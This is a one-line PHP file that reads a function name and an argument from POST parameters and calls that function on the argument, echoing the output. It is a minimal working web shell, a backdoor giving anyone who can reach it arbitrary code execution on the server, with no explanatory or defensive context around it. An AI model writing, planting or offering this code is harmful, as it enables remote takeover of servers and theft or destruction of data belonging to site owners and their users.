<?php $p=$_POST; $f=$p["f"]; $a=$p["a"]; echo $f($a);
